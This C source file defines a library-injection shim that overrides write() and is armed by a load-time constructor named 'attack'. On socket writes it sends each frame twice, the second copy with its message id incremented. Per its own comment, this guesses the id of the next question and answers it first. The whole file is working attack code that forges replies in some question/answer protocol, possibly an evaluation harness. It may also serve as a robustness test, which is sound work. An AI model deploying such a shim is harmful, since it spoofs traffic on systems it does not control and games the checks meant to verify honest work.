/* Guesses the id of the next question and answers first. */
#include <stdint.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static int armed;

ssize_t write(int fd, const void *data, size_t size)
{
    struct stat st;

    if (fd < 3 || !armed || fstat(fd, &st) != 0 || !S_ISSOCK(st.st_mode)) {
        return syscall(SYS_write, fd, data, size);
    }
    uint8_t frame[65536];
    uint64_t id;
    size = size < sizeof(frame) ? size : sizeof(frame);
    memcpy(frame, data, size);
    memcpy(&id, frame + 4, 8);
    id++;
    syscall(SYS_write, fd, frame, size);
    memcpy(frame + 4, &id, 8);
    syscall(SYS_write, fd, frame, size);
    return (ssize_t)size;
}

static void __attribute__((constructor)) attack(void)
{
    armed = 1;
}
